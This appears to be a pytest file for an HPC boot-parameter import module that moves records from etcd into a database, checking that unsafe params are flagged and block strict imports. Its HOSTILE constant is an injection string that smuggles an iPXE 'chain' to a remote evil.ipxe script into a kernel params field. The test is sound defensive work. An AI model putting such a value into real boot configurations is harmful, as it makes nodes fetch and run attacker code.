"""Hostile etcd content (issue 14): a record whose params change the iPXE script's structure is imported as the
old BSS served it, reported as ``unsafe_params``, and a strict import stops on it unless it is accepted."""

import json

import psycopg

from ansible_collections.hpc_boot.bss.plugins.module_utils import bss_schema
from ansible_collections.hpc_boot.bss.plugins.modules import import_bootparams

from test_import_faults import KERNEL, NODE, node_record, put_records
from test_import_golden import db_args, run_module, table_rows

HOSTILE = "console=ttyS0 || chain http://203.0.113.9/evil.ipxe"


def test_unsafe_params_stop_a_strict_import_and_are_carried_faithfully_once_accepted(etcd_server, bss_database, tmp_path):
    with psycopg.connect(bss_database, autocommit=True) as conn:
        bss_schema.apply_migrations(conn)
    export = tmp_path / "smd.json"
    export.write_text(json.dumps([NODE, dict(NODE, xname="x3000c0s1b0n1", nid=2, mac="a4:bf:01:3e:1f:a1")]))
    put_records(etcd_server.port, {"/kernel/k1": json.dumps({"path": KERNEL}),
                                   "/params/x3000c0s1b0n0": node_record(HOSTILE),
                                   "/params/x3000c0s1b0n1": node_record("console=ttyS0")})
    args = dict(db_args(bss_database), etcd_host="127.0.0.1", etcd_port=etcd_server.port, smd_export=str(export),
                loss_report=str(tmp_path / "losses.json"))

    strict = run_module(import_bootparams, args)
    assert strict["failed"] and "unsafe_params:x3000c0s1b0n0" in strict["msg"]
    assert [(loss["kind"], loss["name"]) for loss in strict["unaccepted_losses"]] == [("unsafe_params", "x3000c0s1b0n0")]
    assert strict["unaccepted_losses"][0]["detail"].startswith("params %r has the token '||'" % HOSTILE)
    report = json.loads((tmp_path / "losses.json").read_text())
    assert "unsafe_params" in json.dumps(report) and HOSTILE in json.dumps(report)
    assert table_rows(bss_database)["nodes"] == []                      # strict: nothing written

    accepted = run_module(import_bootparams, dict(args, accept_loss_kinds=["unsafe_params"]))
    assert accepted["changed"] is True and accepted["unaccepted_losses"] == [], accepted.get("msg")
    served = {row[1]: row[4] for row in table_rows(bss_database)["served"]}
    assert served == {"x3000c0s1b0n0": HOSTILE, "x3000c0s1b0n1": "console=ttyS0"}   # byte for byte as etcd served it

    by_name = run_module(import_bootparams, dict(args, accept_losses=["x3000c0s1b0n0"]))
    assert by_name["changed"] is False and by_name["loss_counts"] == {"unsafe_params": 1}
